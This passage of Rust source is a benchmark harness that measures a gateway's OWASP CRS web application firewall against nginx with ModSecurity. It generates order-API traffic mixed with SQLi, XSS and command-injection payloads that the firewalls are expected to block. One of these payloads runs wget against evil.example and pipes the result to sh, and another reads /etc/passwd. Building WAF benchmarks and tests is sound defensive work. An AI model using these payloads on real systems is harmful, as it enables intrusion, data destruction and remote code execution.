//! `cargo xtask bench waf`: the gateway's WAF (OWASP CRS v4, paranoia 1, blocking) against nginx
//! with ModSecurity v3 and the same CRS, on loopback, in one run.
//!
//! Four peers, each one process with one worker, all behind the same `bench_backend` (which
//! reads each body whole): nginx as a plain proxy, nginx with ModSecurity (Debian's
//! `libnginx-mod-http-modsecurity`, ModSecurity 3.0.x), the gateway without WAF and the gateway
//! with CRS. Both WAFs load the CRS from `../shared/crs` (or `WAF_BENCH_CRS`) at run time:
//! `crs-setup.conf.example` and `rules/*.conf` for ModSecurity, `rules/*.conf` for the
//! gateway (which generates its CRS setup from its config). Same settings on both: paranoia 1,
//! blocking, inbound threshold 5, request bodies inspected (JSON through the JSON body
//! processor), methods GET HEAD POST OPTIONS PUT PATCH DELETE, response bodies not inspected
//! (the gateway does not inspect them either). Content types: CRS's default list on
//! ModSecurity, the gateway's default (CRS's plus the JSON media types of API standards) on the
//! gateway; the mix sends only `application/json`.
//! Placement as in `bench l7`: servers on CPU 0, the load generator alone on CPU 1.
//!
//! The workload, the same bytes for every peer: one scenario per JSON body size (100 B, 2 KB,
//! 20 KB), each a cycle of 100 requests that `wrk` replays in order: benign GETs (a third of the
//! benign ones) and benign JSON POSTs of that size (generated order documents, deterministic),
//! and `WAF_BENCH_ATTACK_PERCENT` (default 10) attacks, SQLi, XSS and RCE payloads in the query
//! string and in the JSON body, that both WAFs should block.
//!
//! Before measuring, every distinct request is sent once to every peer: a WAF must pass every
//! benign request (200 from the backend) and block every attack (403), a plain proxy must pass
//! all; anything else is reported loudly (it means the comparison is not like for like). The
//! legitimate API requests of the WAF tests (`gateway/tests/fixtures/waf-benign-api.jsonl`) are
//! then sent once to each WAF, and the ones it refuses are listed (false positives).
//! Then, interleaved across peers, `WAF_BENCH_RUNS` (default 3) runs of `WAF_BENCH_SECS`
//! (default 10 s) of `wrk -t1 -c8` (`WAF_BENCH_CONNECTIONS`) per scenario and peer (the mix),
//! and the same for benign requests only, from which the engine cost per benign request is
//! read: the proxy's CPU time per request with its WAF minus without. A run that completes
//! fewer than 100 requests (ModSecurity on 20 KB bodies) is measured again for 60 s.
//! Reported as medians, in `target/bench/waf.json` and
//! `target/bench/waf.md` (also printed), with the reproduce command.
//!
//! `WAF_BENCH_PEERS` (comma-separated, default all four) measures a subset;
//! `WAF_BENCH_KEEP=1` keeps the work directory (configs, logs, request files); `BENCH_SMOKE=1`
//! measures at once on a busy machine (to see it work end to end; the numbers are flagged).

use std::{
    fmt::Write as _,
    fs,
    path::{Path, PathBuf},
};

use anyhow::{Context as _, bail};

use super::harness::{
    LOAD_CPU, Meter, Proc, SERVER_CPU, WorkDir, env_var, free_ports, http_raw, install_packages,
    json_num, json_str, json_versions, md_versions, median, parse_wrk, start_backend, us, version,
    wait_log_line, wait_serving, write_report, wrk_command, wrk_done_lua,
};
use crate::{build, exec};

/// Names this benchmark in messages.
const TAG: &str = "bench waf";

/// Debian packages the benchmark needs, with a file that proves each is installed.
const PEER_PACKAGES: &[(&str, &str)] = &[
    ("nginx", "/usr/sbin/nginx"),
    (
        "libnginx-mod-http-modsecurity",
        "/usr/lib/nginx/modules/ngx_http_modsecurity_module.so",
    ),
    ("wrk", "/usr/bin/wrk"),
];

/// The peers, in report order.
const PEERS: &[&str] = &["nginx", "nginx+modsecurity", "gateway", "gateway+crs"];
/// JSON body sizes of the POSTs, one scenario each.
const BODY_SIZES: &[usize] = &[100, 2 * 1024, 20 * 1024];
/// Requests in one cycle of a scenario (the attack share is a percentage of it).
const CYCLE: usize = 100;
/// Methods both WAFs allow (CRS rule 911100): the gateway's default, an API's methods.
const ALLOWED_METHODS: &str = "GET HEAD POST OPTIONS PUT PATCH DELETE";
/// wrk connections. Fewer than `bench l7`'s 32: a WAF peer takes up to a second of CPU per
/// 20 KB request (ModSecurity), and its one worker interleaves every open request, so with 32 the
/// first answers would come after the run; 8 still keeps every one-worker peer busy.
const DEFAULT_CONNECTIONS: usize = 8;
/// A run that completed fewer requests than this is measured again for [`LONG_RUN_S`].
const MIN_REQUESTS: f64 = 100.0;
const LONG_RUN_S: u64 = 60;
/// wrk's per-request timeout (`bench l7` uses 5 s).
const WRK_TIMEOUT_S: u64 = 30;
/// Targets.
const VS_MODSECURITY_TARGET: f64 = 10.0;
const VS_NGINX_TARGET: f64 = 0.5;

struct Settings {
    secs: u64,
    runs: usize,
    connections: usize,
    attack_percent: usize,
    peers: Vec<&'static str>,
    crs: PathBuf,
}

impl Settings {
    fn from_env() -> anyhow::Result<Self> {
        let peers = match std::env::var("WAF_BENCH_PEERS") {
            Ok(list) => {
                let mut chosen = Vec::new();
                for name in list.split(',').map(str::trim).filter(|s| !s.is_empty()) {
                    let Some(p) = PEERS.iter().find(|p| **p == name) else {
                        bail!(
                            "WAF_BENCH_PEERS: unknown peer {name:?} (peers: {})",
                            PEERS.join(",")
                        );
                    };
                    chosen.push(*p);
                }
                // Report order, whatever order was given.
                PEERS
                    .iter()
                    .copied()
                    .filter(|p| chosen.contains(p))
                    .collect()
            }
            Err(_) => PEERS.to_vec(),
        };
        let crs = match std::env::var_os("WAF_BENCH_CRS") {
            Some(p) => PathBuf::from(p),
            None => exec::workspace_root().join("../shared/crs"),
        };
        let s = Self {
            secs: env_var("WAF_BENCH_SECS", 10)?,
            runs: env_var("WAF_BENCH_RUNS", 3)?,
            connections: env_var("WAF_BENCH_CONNECTIONS", DEFAULT_CONNECTIONS)?,
            attack_percent: env_var("WAF_BENCH_ATTACK_PERCENT", 10)?,
            peers,
            crs: crs.canonicalize().with_context(|| {
                format!(
                    "the OWASP CRS v4 is expected in {} (set WAF_BENCH_CRS to its directory)",
                    crs.display()
                )
            })?,
        };
        anyhow::ensure!(!s.peers.is_empty(), "WAF_BENCH_PEERS names no peer");
        anyhow::ensure!(
            (1..=120).contains(&s.secs),
            "WAF_BENCH_SECS must be 1..=120"
        );
        anyhow::ensure!((1..=9).contains(&s.runs), "WAF_BENCH_RUNS must be 1..=9");
        anyhow::ensure!(
            (1..=1000).contains(&s.connections),
            "WAF_BENCH_CONNECTIONS must be 1..=1000"
        );
        anyhow::ensure!(
            s.attack_percent <= 50,
            "WAF_BENCH_ATTACK_PERCENT must be 0..=50"
        );
        for f in [
            "crs-setup.conf.example",
            "rules/REQUEST-901-INITIALIZATION.conf",
        ] {
            anyhow::ensure!(
                s.crs.join(f).is_file(),
                "{} has no {f}: not an OWASP CRS v4 checkout",
                s.crs.display()
            );
        }
        Ok(s)
    }

    fn command(&self) -> String {
        use super::harness::changed;
        super::harness::reproduce(
            "cargo xtask bench waf",
            &[
                ("WAF_BENCH_SECS", changed(self.secs, 10)),
                ("WAF_BENCH_RUNS", changed(self.runs, 3)),
                (
                    "WAF_BENCH_CONNECTIONS",
                    changed(self.connections, DEFAULT_CONNECTIONS),
                ),
                ("WAF_BENCH_ATTACK_PERCENT", changed(self.attack_percent, 10)),
                (
                    "WAF_BENCH_PEERS",
                    (self.peers.len() != PEERS.len()).then(|| self.peers.join(",")),
                ),
                (
                    "WAF_BENCH_CRS",
                    std::env::var_os("WAF_BENCH_CRS").map(|_| self.crs.display().to_string()),
                ),
                (
                    "BENCH_SMOKE",
                    super::harness::smoke().then(|| "1".to_owned()),
                ),
            ],
        )
    }

    fn has(&self, peer: &str) -> bool {
        self.peers.contains(&peer)
    }
}

pub fn run() -> anyhow::Result<()> {
    let settings = Settings::from_env()?;
    let cpus = std::thread::available_parallelism().map_or(1, |n| n.get());
    anyhow::ensure!(
        cpus >= 2,
        "bench waf pins the load generator and the servers on separate CPUs: needs 2, found {cpus}"
    );
    install_packages(TAG, PEER_PACKAGES)?;
    build::release()?;
    exec::run(exec::cargo().args([
        "build",
        "--release",
        "-p",
        "tests",
        "--bin",
        "bench_backend",
    ]))?;
    let root = exec::workspace_root();
    let bins = Bins {
        gateway: build::release_binary(),
        backend: root.join("target/release/bench_backend"),
    };
    let work = WorkDir::new("waf", TAG, "WAF_BENCH_KEEP")?;
    let report = measure(&settings, &bins, &work.path)?;
    write_report("waf", TAG, &report.json, &report.markdown)
}

struct Bins {
    gateway: PathBuf,
    backend: PathBuf,
}

// ---------------------------------------------------------------------------------------------
// The workload

/// A deterministic generator (xorshift64*): the same requests on every run and machine.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }

    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn pick<'a>(&mut self, from: &[&'a str]) -> &'a str {
        from[self.below(from.len())]
    }
}

const FIRST_NAMES: &[&str] = &[
    "Anna", "Jonas", "Maria", "Lukas", "Sofia", "Elias", "Mia", "Noah", "Lea", "Paul", "Emma",
    "Felix", "Clara", "Henry", "Julia", "Oskar",
];
const LAST_NAMES: &[&str] = &[
    "Schmidt", "Meyer", "Novak", "Rossi", "Jensen", "Dubois", "Kowalski", "Garcia", "Nilsson",
    "Becker", "Silva", "Horvat",
];
const CITIES: &[(&str, &str)] = &[
    ("Berlin", "DE"),
    ("Vienna", "AT"),
    ("Lyon", "FR"),
    ("Porto", "PT"),
    ("Krakow", "PL"),
    ("Malmo", "SE"),
    ("Bologna", "IT"),
    ("Ghent", "BE"),
];
const STREETS: &[&str] = &[
    "Lindenstrasse",
    "Rue des Fleurs",
    "Harbour Road",
    "Via Roma",
    "Parkweg",
    "Market Square",
];
const PRODUCTS: &[&str] = &[
    "Garden hose 25 m",
    "Ceramic coffee mug",
    "Desk lamp with dimmer",
    "Wool blanket",
    "Stainless water bottle",
    "Trail running shoes",
    "Notebook A5 dotted",
    "Bluetooth headphones",
    "Cast iron pan 28 cm",
    "Yoga mat",
    "Rain jacket",
    "Herb seed starter kit",
];
const WORDS: &[&str] = &[
    "soft",
    "durable",
    "lightweight",
    "recycled",
    "cotton",
    "steel",
    "handmade",
    "compact",
    "warm",
    "blue",
    "green",
    "classic",
    "modern",
    "travel",
    "kitchen",
    "outdoor",
    "gift",
    "wrapped",
    "fragile",
    "packed",
    "carefully",
    "weekday",
    "morning",
    "delivery",
    "please",
    "ring",
    "bell",
    "neighbour",
    "parcel",
    "reception",
    "thanks",
    "quality",
    "size",
    "medium",
    "large",
    "small",
    "colour",
    "matte",
    "finish",
    "fabric",
    "washable",
    "warranty",
    "years",
];
const STATUSES: &[&str] = &["pending", "paid", "shipped", "delivered"];
const SORTS: &[&str] = &["created_at", "-created_at", "total", "-updated_at"];
const CATEGORIES: &[&str] = &["garden", "kitchen", "outdoor", "office", "sports", "home"];

fn words(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| rng.pick(WORDS))
        .collect::<Vec<_>>()
        .join(" ")
}

/// One line item of an order, about 250 bytes as JSON.
fn item(rng: &mut Rng) -> String {
    let n = 8 + rng.below(10);
    format!(
        r#"{{"sku":"SKU-{:05}","name":"{}","quantity":{},"unit_price":{}.{:02},"description":"{}"}}"#,
        rng.below(100_000),
        rng.pick(PRODUCTS),
        1 + rng.below(5),
        2 + rng.below(200),
        rng.below(100),
        words(rng, n)
    )
}

/// An order document of exactly `size` bytes (for `size` >= 100): the fields that fit, then
/// line items while they fit, then a `note` padded to the size. `inject`, when given, becomes
/// the `comment` field (the attack payloads).
fn order_json(rng: &mut Rng, size: usize, inject: Option<&str>) -> String {
    let first = rng.pick(FIRST_NAMES);
    let last = rng.pick(LAST_NAMES);
    let (city, country) = CITIES[rng.below(CITIES.len())];
    let mut fields = vec![format!(r#""customer_id":{}"#, 1000 + rng.below(90_000))];
    if let Some(payload) = inject {
        fields.push(format!(r#""comment":"{payload}""#));
    }
    fields.push(r#""currency":"EUR""#.to_string());
    fields.push(format!(
        r#""created_at":"2026-{:02}-{:02}T{:02}:{:02}:00Z""#,
        1 + rng.below(12),
        1 + rng.below(28),
        rng.below(24),
        rng.below(60)
    ));
    fields.push(format!(
        r#""customer":{{"name":"{first} {last}","email":"{}.{}@example.com","tier":"{}"}}"#,
        first.to_lowercase(),
        last.to_lowercase(),
        rng.pick(&["basic", "silver", "gold"])
    ));
    fields.push(format!(
        r#""shipping":{{"street":"{} {}","city":"{city}","postcode":"{:05}","country":"{country}"}}"#,
        rng.pick(STREETS),
        1 + rng.below(120),
        rng.below(100_000)
    ));
    // `{` + fields + `,"note":""` + `}`: keep room for a note of at least a few bytes.
    let note_overhead = r#","note":"""#.len() + 2 + 8;
    let len = |f: &[String], items: &[String]| {
        let base: usize = f.iter().map(|x| x.len() + 1).sum();
        let it = if items.is_empty() {
            0
        } else {
            r#","items":[]"#.len() + items.iter().map(|x| x.len() + 1).sum::<usize>() - 1
        };
        base + it + note_overhead
    };
    let mut kept: Vec<String> = Vec::new();
    for f in fields {
        if len(&kept, &[]) + f.len() < size || kept.is_empty() {
            kept.push(f);
        }
    }
    let mut items = Vec::new();
    loop {
        let next = item(rng);
        let mut trial = items.clone();
        trial.push(next);
        if len(&kept, &trial) > size {
            break;
        }
        items = trial;
    }
    let mut doc = format!("{{{}", kept.join(","));
    if !items.is_empty() {
        let _ = write!(doc, r#","items":[{}]"#, items.join(","));
    }
    // Pad with words to the size (ASCII only, so bytes = chars).
    let room = size.saturating_sub(doc.len() + r#","note":""}"#.len());
    let mut note = String::new();
    while note.len() < room {
        if !note.is_empty() {
            note.push(' ');
        }
        note.push_str(rng.pick(WORDS));
    }
    note.truncate(room);
    let note = note.trim_end().to_string() + &" ".repeat(room - note.trim_end().len());
    let _ = write!(doc, r#","note":"{note}"}}"#);
    doc
}

/// An attack payload and where it goes.
struct Attack {
    kind: &'static str,
    /// In the query string (already URL-encoded), or else in the JSON body.
    query: Option<&'static str>,
    body: Option<&'static str>,
}

/// SQLi, XSS and RCE, each in the query and in the JSON body. Plain CRS PL1 material: each
/// scores at least 5 (one critical rule) on its own.
const ATTACKS: &[Attack] = &[
    Attack {
        kind: "sqli-query",
        query: Some("search=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--%20"),
        body: None,
    },
    Attack {
        kind: "xss-body",
        query: None,
        body: Some(r#"<script>alert(document.cookie)</script>"#),
    },
    Attack {
        kind: "rce-query",
        query: Some("file=report.pdf%3B%20cat%20%2Fetc%2Fpasswd"),
        body: None,
    },
    Attack {
        kind: "sqli-body",
        query: None,
        body: Some(r#"x' OR 1=1; DROP TABLE orders; --"#),
    },
    Attack {
        kind: "xss-query",
        query: Some("q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
        body: None,
    },
    Attack {
        kind: "rce-body",
        query: None,
        body: Some(r#"; /bin/bash -c 'wget http://evil.example/x.sh -O- | sh'"#),
    },
];

/// One request of the mix: raw HTTP/1.1 bytes (keep-alive), and what it is.
struct Req {
    raw: Vec<u8>,
    /// `None` for benign requests, else the attack kind.
    attack: Option<&'static str>,
    /// `GET` or `POST`, for the report.
    post: bool,
}

const HEADERS: &str = "Host: api.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: application/json\r\nAccept-Language: en-GB,en;q=0.8\r\n";

fn get(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\n{HEADERS}\r\n").into_bytes()
}

fn post(path: &str, body: &str) -> Vec<u8> {
    format!(
        "POST {path} HTTP/1.1\r\n{HEADERS}Content-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    )
    .into_bytes()
}

fn benign_get(rng: &mut Rng) -> Vec<u8> {
    match rng.below(3) {
        0 => get(&format!(
            "/api/v1/orders?page={}&limit={}&status={}&sort={}",
            1 + rng.below(20),
            [10, 25, 50, 100][rng.below(4)],
            rng.pick(STATUSES),
            rng.pick(SORTS)
        )),
        1 => get(&format!(
            "/api/v1/customers/{}/orders/{}",
            1000 + rng.below(90_000),
            100_000 + rng.below(900_000)
        )),
        _ => get(&format!(
            "/api/v1/products?category={}&min_price={}&max_price={}&in_stock=true",
            rng.pick(CATEGORIES),
            rng.below(50),
            50 + rng.below(500)
        )),
    }
}

/// One scenario's cycle: `CYCLE` requests, `attack_percent` of them attacks spread evenly, a
/// third of the benign ones GETs, the rest POSTs of `size`-byte JSON.
fn scenario(size: usize, attack_percent: usize) -> Vec<Req> {
    let mut rng = Rng(0x9E37_79B9_7F4A_7C15 ^ size as u64);
    let attacks = CYCLE * attack_percent / 100;
    let mut out = Vec::with_capacity(CYCLE);
    let mut next_attack = 0;
    let mut benign = 0;
    for i in 0..CYCLE {
        // Attack slots at evenly spaced positions.
        let is_attack = attacks > 0 && (i * attacks) / CYCLE != ((i + 1) * attacks) / CYCLE;
        if is_attack {
            let a = &ATTACKS[next_attack % ATTACKS.len()];
            next_attack += 1;
            let raw = match (a.query, a.body) {
                (Some(q), _) => get(&format!("/api/v1/products?{q}")),
                (None, Some(payload)) => {
                    let body = order_json(
                        &mut rng,
                        size.max(payload.len() + 120),
                        Some(&json_escape(payload)),
                    );
                    post("/api/v1/orders", &body)
                }
                (None, None) => continue,
            };
            out.push(Req {
                raw,
                attack: Some(a.kind),
                post: a.body.is_some(),
            });
        } else {
            benign += 1;
            let is_get = benign % 3 == 1;
            let raw = if is_get {
                benign_get(&mut rng)
            } else {
                post("/api/v1/orders", &order_json(&mut rng, size, None))
            };
            out.push(Req {
                raw,
                attack: None,
                post: !is_get,
            });
        }
    }
    out
}

fn json_escape(s: &str) -> String {
    s.replace('\\', "\\\\").replace('"', "\\\"")
}

/// The same request asking the server to close the connection (for the one-shot check).
fn with_close(raw: &[u8]) -> Vec<u8> {
    let Some(eol) = raw.windows(2).position(|w| w == b"\r\n") else {
        return raw.to_vec();
    };
    let mut out = raw[..eol + 2].to_vec();
    out.extend_from_slice(b"Connection: close\r\n");
    out.extend_from_slice(&raw[eol + 2..]);
    out
}

/// Writes the requests as `<length>\n<bytes>` records, which [`MIX_LUA`] reads.
fn write_requests(path: &Path, reqs: &[&Req]) -> anyhow::Result<()> {
    let mut data = Vec::new();
    for r in reqs {
        data.extend_from_slice(format!("{}\n", r.raw.len()).as_bytes());
        data.extend_from_slice(&r.raw);
    }
    fs::write(path, data).with_context(|| format!("writing {}", path.display()))
}

/// Replays the requests of the file given after `--` in order, round robin across connections.
const MIX_LUA: &str = r#"
local reqs = {}
local n = 0
local i = 0
init = function(args)
  local f = assert(io.open(args[1], "rb"))
  local data = f:read("*a")
  f:close()
  local pos = 1
  while pos <= #data do
    local nl = data:find("\n", pos, true)
    local len = tonumber(data:sub(pos, nl - 1))
    reqs[#reqs + 1] = data:sub(nl + 1, nl + len)
    pos = nl + len + 1
  end
  n = #reqs
end
request = function()
  i = i % n + 1
  return reqs[i]
end
"#;

// ---------------------------------------------------------------------------------------------
// The peers

struct Peer {
    name: &'static str,
    port: u16,
    pid: u32,
}

struct Fleet {
    _procs: Vec<Proc>,
    backend_pid: u32,
    peers: Vec<Peer>,
    versions: Vec<(String, String)>,
}

/// nginx as a reverse proxy, optionally with ModSecurity; one worker, as in `bench l7`, with a
/// body buffer that keeps 20 KB bodies in memory (nginx would spill them to disk otherwise).
fn nginx_conf(dir: &Path, port: u16, backend_port: u16, modsecurity: Option<&Path>) -> String {
    let d = dir.display();
    let (load, modsec) = match modsecurity {
        Some(rules) => (
            "load_module /usr/lib/nginx/modules/ngx_http_modsecurity_module.so;\n".to_string(),
            format!(
                "  modsecurity on;\n  modsecurity_rules_file {};\n",
                rules.display()
            ),
        ),
        None => (String::new(), String::new()),
    };
    format!(
        r#"{load}worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/error.log warn;
events {{ worker_connections 4096; }}
http {{
  access_log off;
  keepalive_requests 1000000;
  client_body_buffer_size 64k;
  client_max_body_size 1m;
  client_body_temp_path {d}/tmp/body;
  proxy_temp_path {d}/tmp/proxy;
  fastcgi_temp_path {d}/tmp/fastcgi;
  uwsgi_temp_path {d}/tmp/uwsgi;
  scgi_temp_path {d}/tmp/scgi;
{modsec}  upstream backend {{
    server 127.0.0.1:{backend_port};
    keepalive 32;
    keepalive_requests 1000000;
  }}
  server {{
    listen 127.0.0.1:{port};
    location / {{
      proxy_pass http://backend;
      proxy_http_version 1.1;
      proxy_set_header Connection "";
    }}
  }}
}}
"#
    )
}

/// ModSecurity's main file: the engine settings of Debian's recommended `modsecurity.conf`
/// (blocking instead of detection-only, no audit log, no response bodies), the CRS setup with
/// paranoia 1 and the gateway's allowed methods, then the CRS rules.
fn modsecurity_conf(dir: &Path, crs: &Path) -> String {
    let d = dir.display();
    let c = crs.display();
    let unicode = Path::new("/etc/nginx/unicode.mapping");
    let unicode = if unicode.is_file() {
        format!("SecUnicodeMapFile {} 20127\n", unicode.display())
    } else {
        String::new()
    };
    format!(
        r#"SecRuleEngine On
SecRequestBodyAccess On
SecRequestBodyLimit 13107200
SecRequestBodyNoFilesLimit 1048576
SecRequestBodyLimitAction Reject
SecRequestBodyJsonDepthLimit 512
SecArgumentsLimit 1000
SecRule REQUEST_HEADERS:Content-Type "@rx ^(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "@rx ^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,t:none,log,deny,status:400,msg:'Failed to parse request body.'"
SecResponseBodyAccess Off
SecAuditEngine Off
SecTmpDir {d}/tmp
SecDataDir {d}/tmp
SecArgumentSeparator &
SecCookieFormat 0
{unicode}Include {c}/crs-setup.conf.example
SecAction "id:900000,phase:1,pass,t:none,nolog,setvar:tx.blocking_paranoia_level=1"
SecAction "id:900110,phase:1,pass,t:none,nolog,setvar:tx.inbound_anomaly_score_threshold=5,setvar:tx.outbound_anomaly_score_threshold=4"
SecAction "id:900200,phase:1,pass,t:none,nolog,setvar:'tx.allowed_methods={ALLOWED_METHODS}'"
Include {c}/rules/*.conf
"#
    )
}

/// The gateway's config: one worker, no access log; with `crs` the WAF on, as ModSecurity is.
fn gateway_conf(
    dir: &Path,
    name: &str,
    port: u16,
    backend_port: u16,
    crs: Option<&Path>,
) -> String {
    let (waf, route_waf) = match crs {
        Some(c) => (
            format!(
                "waf:\n  rules: [\"{}\"]\n  paranoia: 1\n  mode: block\n  inbound_threshold: 5\n  allowed_methods: [{}]\n",
                c.join("rules/*.conf").display(),
                ALLOWED_METHODS.split(' ').collect::<Vec<_>>().join(", ")
            ),
            ", waf: on",
        ),
        None => (String::new(), ""),
    };
    // Instance names are directory names: no `+`.
    let name = format!("bench-waf-{}", name.replace('+', "-"));
    format!(
        r#"instance: {name}
state_dir: {state}
workers: 1
listeners:
  - {{ name: main, address: "127.0.0.1:{port}" }}
access_log: off
upstreams:
  backend: {{ endpoints: ["http://127.0.0.1:{backend_port}"] }}
{waf}routes:
  - {{ match: {{ prefix: / }}, upstream: backend{route_waf} }}
"#,
        state = dir.join(format!("{name}-state")).display(),
    )
}

fn start_nginx(
    name: &'static str,
    dir: &Path,
    port: u16,
    backend_port: u16,
    modsecurity: Option<&Path>,
) -> anyhow::Result<Proc> {
    let ngx_dir = dir.join(name.replace('+', "-"));
    fs::create_dir_all(ngx_dir.join("tmp"))?;
    let rules = match modsecurity {
        Some(crs) => {
            let rules = ngx_dir.join("modsecurity.conf");
            fs::write(&rules, modsecurity_conf(&ngx_dir, crs))?;
            Some(rules)
        }
        None => None,
    };
    let conf = ngx_dir.join("nginx.conf");
    fs::write(
        &conf,
        nginx_conf(&ngx_dir, port, backend_port, rules.as_deref()),
    )?;
    let ngx = ngx_dir.display().to_string();
    let err = format!("{ngx}/error.log");
    let conf = conf.display().to_string();
    let args = ["-p", &ngx, "-e", &err, "-c", &conf];
    // `nginx -t` first: a rule ModSecurity cannot load is named there, not in a dead worker.
    let test = std::process::Command::new("/usr/sbin/nginx")
        .args(args)
        .arg("-t")
        .output()
        .context("running nginx -t")?;
    if !test.status.success() {
        bail!(
            "{name}: nginx -t rejects the configuration in {conf}:\n{}{}",
            String::from_utf8_lossy(&test.stderr),
            fs::read_to_string(&err).unwrap_or_default()
        );
    }
    let mut proc = Proc::spawn(
        name,
        SERVER_CPU,
        Path::new("/usr/sbin/nginx"),
        &[&args[..], &["-g", "daemon off;"]].concat(),
        dir,
        false,
    )?;
    wait_serving(&mut proc, port, false)?;
    Ok(proc)
}

fn start_gateway(
    name: &'static str,
    bins: &Bins,
    dir: &Path,
    port: u16,
    backend_port: u16,
    crs: Option<&Path>,
) -> anyhow::Result<Proc> {
    let conf = dir.join(format!("{name}.yaml"));
    fs::write(&conf, gateway_conf(dir, name, port, backend_port, crs))?;
    let conf_s = conf.display().to_string();
    let check = std::process::Command::new(&bins.gateway)
        .args(["check", &conf_s])
        .output()
        .context("running gateway check")?;
    if !check.status.success() {
        let why = format!(
            "{}{}",
            String::from_utf8_lossy(&check.stdout),
            String::from_utf8_lossy(&check.stderr)
        );
        if crs.is_some() {
            bail!(
                "{name}: the gateway rejects its WAF configuration ({conf_s}):\n{why}\n\
                 The gateway under test needs the WAF (`waf:` section, `waf: on` per route, CRS v4 \
                 rules from {}). To measure the other peers only: \
                 WAF_BENCH_PEERS=nginx,nginx+modsecurity,gateway cargo xtask bench waf",
                crs.map_or(String::new(), |c| c.join("rules").display().to_string())
            );
        }
        bail!("{name}: the gateway rejects its configuration ({conf_s}):\n{why}");
    }
    let mut gw = Proc::spawn(
        name,
        SERVER_CPU,
        &bins.gateway,
        &["run", "--config", &conf_s],
        dir,
        false,
    )?;
    let started =
        wait_log_line(&mut gw, "gateway ready").and_then(|()| wait_serving(&mut gw, port, false));
    if let Err(e) = started {
        if crs.is_some() {
            bail!(
                "{name}: the gateway with the CRS (config {conf_s}) does not start: {e:#}\n\
                 To measure the other peers only: \
                 WAF_BENCH_PEERS=nginx,nginx+modsecurity,gateway cargo xtask bench waf"
            );
        }
        return Err(e);
    }
    Ok(gw)
}

fn start_fleet(settings: &Settings, bins: &Bins, dir: &Path) -> anyhow::Result<Fleet> {
    let mut procs = Vec::new();
    let (backend, backend_port) = start_backend(&bins.backend, dir, &["--read-body"])?;
    let backend_pid = backend.pid();
    procs.push(backend);
    let ports = free_ports(PEERS.len())?;
    let mut peers = Vec::new();
    for (&name, &port) in PEERS.iter().zip(&ports) {
        if !settings.has(name) {
            continue;
        }
        let crs = settings.crs.as_path();
        let proc = match name {
            "nginx" => start_nginx(name, dir, port, backend_port, None)?,
            "nginx+modsecurity" => start_nginx(name, dir, port, backend_port, Some(crs))?,
            "gateway" => start_gateway(name, bins, dir, port, backend_port, None)?,
            _ => start_gateway(name, bins, dir, port, backend_port, Some(crs))?,
        };
        peers.push(Peer {
            name,
            port,
            pid: proc.pid(),
        });
        procs.push(proc);
    }

    let dpkg = |pkg: &str| {
        exec::output(std::process::Command::new("dpkg-query").args(["-W", "-f", "${Version}", pkg]))
            .unwrap_or_default()
    };
    let crs_version = fs::read_to_string(settings.crs.join("crs-setup.conf.example"))
        .ok()
        .and_then(|t| {
            t.lines().find_map(|l| {
                l.split_once("OWASP CRS ver.")
                    .map(|(_, v)| v.trim().to_string())
            })
        })
        .unwrap_or_default();
    let versions = vec![
        ("nginx".to_string(), version("/usr/sbin/nginx", "-v")),
        ("libmodsecurity3".into(), dpkg("libmodsecurity3")),
        (
            "libnginx-mod-http-modsecurity".into(),
            dpkg("libnginx-mod-http-modsecurity"),
        ),
        ("crs".into(), crs_version),
        ("wrk".into(), version("/usr/bin/wrk", "-v")),
        ("gateway".into(), super::harness::git_describe()),
        ("kernel".into(), version("uname", "-r")),
        ("cpu".into(), super::harness::cpu_model()),
    ];
    Ok(Fleet {
        _procs: procs,
        backend_pid,
        peers,
        versions,
    })
}

// ---------------------------------------------------------------------------------------------
// Measuring

/// What sending every distinct request once showed for one peer and scenario.
struct Check {
    peer: &'static str,
    size: usize,
    benign: usize,
    benign_passed: usize,
    attacks: usize,
    attacks_blocked: usize,
    /// Requests answered otherwise than expected: `kind: status`.
    wrong: Vec<String>,
}

impl Check {
    fn ok(&self) -> bool {
        self.wrong.is_empty()
    }
}

/// The legitimate API requests the WAF tests use, relative to the workspace.
const BENIGN_API_CORPUS: &str = "gateway/tests/fixtures/waf-benign-api.jsonl";

fn is_waf(peer: &str) -> bool {
    matches!(peer, "nginx+modsecurity" | "gateway+crs")
}

fn check(peer: &Peer, size: usize, reqs: &[Req]) -> anyhow::Result<Check> {
    let mut c = Check {
        peer: peer.name,
        size,
        benign: 0,
        benign_passed: 0,
        attacks: 0,
        attacks_blocked: 0,
        wrong: Vec::new(),
    };
    for (i, r) in reqs.iter().enumerate() {
        let (status, body) = http_raw(peer.port, &with_close(&r.raw))
            .with_context(|| format!("{}: request {i} of the {size}-byte mix", peer.name))?;
        let passed = status == 200 && body.contains("bench-backend");
        let blocked = status == 403;
        match r.attack {
            None => {
                c.benign += 1;
                if passed {
                    c.benign_passed += 1;
                } else {
                    c.wrong.push(format!(
                        "benign {} #{i}: {status}",
                        if r.post { "POST" } else { "GET" }
                    ));
                }
            }
            Some(kind) => {
                c.attacks += 1;
                if blocked {
                    c.attacks_blocked += 1;
                }
                let expected = if is_waf(peer.name) { blocked } else { passed };
                if !expected {
                    c.wrong.push(format!("attack {kind} #{i}: {status}"));
                }
            }
        }
    }
    Ok(c)
}

/// The legitimate API requests of the WAF tests (`gateway/tests/fixtures/waf-benign-api.jsonl`)
/// as raw one-shot requests: (id, bytes).
fn benign_api_corpus() -> anyhow::Result<Vec<(String, Vec<u8>)>> {
    let path = exec::workspace_root().join(BENIGN_API_CORPUS);
    let text = fs::read_to_string(&path).with_context(|| format!("reading {}", path.display()))?;
